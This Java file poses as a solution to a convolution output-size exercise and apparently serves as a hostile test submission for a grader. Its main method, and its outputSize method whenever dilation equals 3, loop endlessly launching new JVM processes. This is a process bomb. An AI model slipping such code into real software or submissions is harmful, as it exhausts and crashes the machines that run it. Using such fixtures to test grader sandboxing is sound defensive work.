import convkit.exercises.arithmetic.OutputSizeExercise;
import java.io.IOException;
import java.io.UncheckedIOException;

/** Starts processes that start processes, where the dilation is 3. */
public class MyOutputSize implements OutputSizeExercise {

    public static void main(String[] arguments) {
        while (true) {
            bomb();
        }
    }

    private static void bomb() {
        String java = System.getProperty("java.home") + "/bin/java";
        try {
            new ProcessBuilder(java, "-Xmx8m", "-cp", System.getProperty("java.class.path"), "convkit.grader.child.Host")
                    .start();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @Override
    public int outputSize(int w, int k, int s, int p, int d) {
        while (d == 3) {
            bomb();
        }
        return Right.outputSize(w, k, s, p, d);
    }
}
